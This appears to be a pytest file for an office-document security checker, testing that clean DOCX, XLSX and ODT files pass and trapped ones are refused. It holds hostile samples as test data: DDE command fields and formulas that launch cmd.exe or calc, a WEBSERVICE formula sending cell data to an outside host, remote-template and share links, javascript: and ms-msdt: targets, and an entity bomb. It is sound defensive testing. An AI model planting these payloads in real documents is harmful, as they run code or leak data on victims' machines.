"""Documents that run, call, fetch or carry something, each written in another way; and ordinary documents."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import pytest

from tests.foundation.files import samples as s
from tests.foundation.files.office_samples import (
    body,
    char,
    docx,
    instruction,
    odt,
    related,
    relation,
    relations,
    run,
    types,
    workbook,
    xlsx,
)
from tinhso.foundation.files.inspecting.check import check
from tinhso.foundation.files.rules.fields import formula_fault, instruction_fault
from tinhso.foundation.files.rules.links import unsafe

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TYPE_OF = '<Override PartName="/word/{}" ContentType="{}"/>'

GOOD = {
    "docx": (docx(), "docx"),
    "docx with fields": (
        docx(
            run(" PAGE ")
            + run(' HYPERLINK "https://a.vn/dde" ')
            + run(" TOC \\o ")
            + run(" MACROBUTTON NoMacro [ghi] ")
            + run(' INCLUDEPICTURE "C:\\\\anh.png" ')
            + char("begin") + instruction(" IF ") + run("MERGEFIELD a") + instruction(' = "DDE" ') + char("end")
            + '<w:fldSimple w:instr=" DATE \\@ dd/MM/yyyy "/>'
        ),
        "docx",
    ),
    "docx with a template kept inside": (related(relation("attachedTemplate", "mau.dotx")), "docx"),
    "docx with printer settings": (docx(more={"word/printerSettings/p1.bin": b"\x01\0P\0"}), "docx"),
    "docx with a drawing": (docx(more={"word/media/image2.svg": b'<!DOCTYPE svg [<!ENTITY a "b">]><svg/>'}), "docx"),
    "xlsx": (xlsx(), "xlsx"),
    "xlsx with comments that are no XML": (workbook({"xl/drawings/v.vml": b"<xml><br></xml>"}), "xlsx"),
    "odt": (odt(), "odt"),
    "odt with links and pictures": (
        odt('<text:a xlink:href="https://a.vn">x</text:a><draw:image xlink:href="Pictures/1.png"/>'
            '<draw:object xlink:href="./Object 1"/>'),
        "odt",
    ),
}  # fmt: skip
BAD = {
    "macro type": ("macro", docx(more={"[Content_Types].xml": types(main=MACRO_MAIN)})),
    "macro type in UTF-16": (
        "macro",
        docx(more={"[Content_Types].xml": types(main=MACRO_MAIN).decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
    ),
    "macro type in other letters": ("macro", docx(more={"[Content_Types].xml": types(main=MACRO_MAIN.upper())})),
    "macro type by entity": (
        "macro",
        docx(more={"[Content_Types].xml": types(main=MACRO_MAIN.replace("macro", "m&#97;cro"))}),
    ),
    "macros by another name": (
        "macro",
        docx(more={"word/a.png.dat": b"x", "[Content_Types].xml": types(TYPE_OF.format("a.png.dat", "application/vnd.ms-office.vbaProject"))}),
    ),
    "macros by extension": (
        "macro",
        docx(more={"word/x.bin": b"x", "[Content_Types].xml": types('<Default Extension="BIN" ContentType="application/vnd.ms-office.vbaProject"/>')}),
    ),
    "macros by relationship": ("macro", related('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme.xml"')),
    "control by relationship": ("macro", related(relation("control", "x/a.xml"))),
    "macro sheet": ("macro", related('Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="a.xml"')),
    "relationships under another name": (
        "embedded",
        docx(more={"word/x.dat": relations(relation("oleObject", "a")),
                   "[Content_Types].xml": types(TYPE_OF.format("x.dat", "application/vnd.openxmlformats-package.relationships+xml"))}),
    ),
    "object by relationship": ("embedded", related(relation("oleObject", "embeddings/a.png"))),
    "object by its bytes": ("embedded", docx(more={"word/media/image9.png": OLE})),
    "package by relationship": ("embedded", related(relation("package", "embeddings/a.xlsx"))),
    "package by its bytes": ("embedded", docx(more={"word/media/image9.png": s.docx()})),
    "page inside": ("embedded", related(relation("aFChunk", "a.mht"))),
    "program without a name": ("program_inside", docx(more={"word/media/image9.png": b"MZ\x90\0"})),
    "template elsewhere": ("outside_template", related(relation("attachedTemplate", "http://a.vn/x.dotm", "External"))),
    "template elsewhere in UTF-16": (
        "outside_template",
        docx(more={"word/_rels/s.rels": relations(relation("attachedTemplate", "//h/x", "External")).decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
    ),
    "template elsewhere, other quotes and order": (
        "outside_template",
        related("TargetMode = 'External' Target='x' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'"),
    ),
    "template elsewhere without saying so": ("outside_template", related(relation("attachedTemplate", "\\\\host\\x.dotm"))),
    "frame": ("outside", related(relation("frame", "http://a.vn", "External"))),
    "document inside a document": ("outside", related(relation("subDocument", "file:///x", "External"))),
    "object elsewhere": ("embedded", related(relation("oleObject", "http://a.vn", "External"))),
    "picture elsewhere": ("outside", related(relation("image", "http://a.vn/a.png", " external "))),
    "workbook elsewhere": ("outside", related(relation("externalLinkPath", "file:///a.xlsx", "External"))),
    "link that runs": ("outside", related(relation("hyperlink", "java&#10;script:alert(1)", "External"))),
    "link to a share": ("outside", related(relation("hyperlink", "file:///\\\\host\\a", "External"))),
    "add-in": ("outside", related('Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="a.xml"')),
    "drawing from the web": (
        "outside",
        docx('<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://a.vn/a.png"/></w:pict>'),
    ),
    "field": ("dde", docx(run(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k" '))),
    "field over runs": ("dde", docx(run("\n", " D", "d", "E", "aUTO c:\\x "))),
    "field never ended": ("dde", docx(char("begin") + instruction("DDE x"))),
    "field without beginning": ("dde", docx(instruction("DD") + instruction("E x"))),
    "simple field": ("dde", docx('<w:fldSimple w:instr=" DDE cmd x "/>')),
    "simple field, two attributes": ("damaged", docx('<w:fldSimple xmlns:z="z" z:instr="PAGE" w:instr="DDE x"/>')),
    "field within a field": ("dde", docx(char("begin") + instruction("IF ") + run("DDE x") + char("end"))),
    "field in a result": (
        "dde",
        docx(char("begin") + instruction("PAGE") + char("separate") + run("DDE x") + char("end")),
    ),
    "field named by another": ("dde", docx(char("begin") + run("QUOTE 68 68 69") + instruction(" c:\\x") + char("end"))),
    "field in a header": ("dde", docx(more={"word/header1.xml": body(run("DDEAUTO x"))})),
    "text from elsewhere": ("outside", docx(run(' INCLUDETEXT "C:\\\\secret.txt" '))),
    "picture field": ("outside", docx(run(' INCLUDEPICTURE  "', "http://a.vn/a.png", '" \\d '))),
    "picture field to a share": ("outside", docx(run(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" '))),
    "link field": ("outside", docx(run(" LINK Excel.Sheet.8 C:\\\\a.xls \\a "))),
    "excel link that calls": (
        "dde",
        workbook({"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
    ),
    "formula that calls": ("dde", xlsx("=cmd|'/C calc'!A0")),
    "name that calls": ("dde", workbook({"xl/x.xml": b"<w><definedName>MSEXCEL|'x'!A1</definedName></w>"})),
    "formula that fetches": ("outside", xlsx('=_xlfn.WEBSERVICE("http://a.vn/"&A1)')),
    "workbook that fetches": ("outside", workbook({"xl/connections.xml": b"<c><connection><webPr url='http://a.vn'/></connection></c>"})),
    "two parts of one name": ("archive_path", docx(more={"WORD/document.xml": b"<a/>"})),
    "entities in a part": ("xml_entities", docx(more={"word/header1.xml": s.ENTITY_BOMB})),
    "nest": ("too_slow", docx("<w:r>" * 5000 + "</w:r>" * 5000)),
    "open script": ("macro", odt(scripts='<office:script script:language="ooo:Basic"/>')),
    "open event": (
        "macro",
        odt(scripts='<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Python"/>'),
    ),
    "script in the text": ("macro", odt("<text:script script:language='JavaScript'>x</text:script>")),
    "link to a macro": ("macro", odt('<text:a xlink:href="vnd.sun.star.script:a.b">x</text:a>')),
    "macro command": ("macro", odt("<text:execute-macro text:name='x'/>")),
    "open DDE": ("dde", odt('<text:dde-connection-decl office:dde-application="soffice"/>')),
    "open DDE of a table": ("dde", odt("<table:table><office:dde-source/></table:table>")),
    "open formula": ("dde", odt('<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>')),
    "open picture elsewhere": ("outside", odt('<draw:image xlink:href="http://a.vn/a.png"/>')),
    "open section elsewhere": ("outside", odt('<text:section-source xlink:href="../a.odt"/>')),
    "open frame elsewhere": ("outside", odt('<draw:floating-frame xlink:href="http://a.vn"/>')),
    "open object": ("embedded", odt('<draw:object-ole xlink:href="./Object 1"/>')),
    "open macros folder": ("macro", odt(more={"Basic/Standard/M.xml": b"<a/>"})),
    "open scripts folder": ("macro", odt(more={"Scripts/python/a.py": b"x"})),
    "open template elsewhere": (
        "outside_template",
        odt(more={"meta.xml": b'<m xmlns:x="http://www.w3.org/1999/xlink"><template x:href="https://a.vn/t.ott"/></m>'}),
    ),
    "open lock": ("encrypted_office", odt(more={"META-INF/manifest.xml": b"<m><encryption-data/></m>"})),
    "word in one file": ("office_in_xml", b'<?xml version="1.0"?><p:package xmlns:p="http://schemas.microsoft.com/office/2006/xmlPackage"/>'),
    "excel in one file": ("office_in_xml", b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
    "rich text": ("old_office", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\x}}}"),
    "saved page": ("old_office", b"From: x\nMIME-Version: 1.0\nContent-Type: multipart/related\n"),
    "page behind a document": ("polyglot", s.zipped({"a": b"", "[Content_Types].xml": types()}).replace(b"[Content", b"%PDF-ent")),
}  # fmt: skip


def verdict(tmp_path: Path, data: bytes) -> tuple[str, str]:
    (tmp_path / "f").write_bytes(data)
    found = check(tmp_path / "f")
    return found.kind, found.code


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_documents_pass(tmp_path: Path, name: str) -> None:
    data, kind = GOOD[name]
    assert verdict(tmp_path, data) == (kind, "")


@pytest.mark.parametrize("name", BAD)
def test_each_trap_is_refused_by_its_own_sentence(tmp_path: Path, name: str) -> None:
    code, data = BAD[name]
    assert verdict(tmp_path, data) == ("", code)


def test_more_xml_than_any_paper_is_refused_unread(tmp_path: Path) -> None:
    part = b"<a>" + b" " * 41_000_000 + b"</a>"
    with zipfile.ZipFile(tmp_path / "f", "w") as archive:
        for name, data in {
            "[Content_Types].xml": types(),
            "word/document.xml": part,
            "word/a.xml": part,
        }.items():
            archive.writestr(name, data)
    begun = time.process_time()
    assert check(tmp_path / "f").code == "bomb"
    assert time.process_time() - begun < 2


@pytest.mark.parametrize(
    ("target", "refused"),
    [
        ("https://a.vn//b", False),
        ("mailto:a@b", False),
        ("tel:0211", False),
        ("#muc", False),
        ("file:///C:/a.pdf", False),
        ("C:\\a.pdf", False),
        ("file://host/a", True),
        ("file:////host/a", True),
        ("file:\\\\host\\a", True),
        ("\\\\host\\a", True),
        ("//host/a", True),
        (" JavaScript:x", True),
        ("java\tscript:x", True),
        ("ms-msdt:/id", True),
        ("vnd.sun.star.script:x", True),
    ],
)
def test_links_that_run_or_open_shares(target: str, refused: bool) -> None:
    assert unsafe(target) is refused


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("SUM(A1:A2)", ""),
        ("'a|b'!A1", ""),
        ('IF(A1="x|y",1,2)', ""),
        ("cmd|'/C calc'!A0", "dde"),
        ("+MSEXCEL |'\\..\\x'!A", "dde"),
        ("1+RTD(A1)", "outside"),
        ("MYRTDX(1)", ""),
    ],
)
def test_formulas(formula: str, code: str) -> None:
    assert formula_fault(formula) == code


def test_instructions_that_only_speak_of_dde() -> None:
    assert instruction_fault(' REF "DDE" ') == ""
    assert instruction_fault("") == ""
    assert instruction_fault(' "DDEAUTO" x ') == "dde"
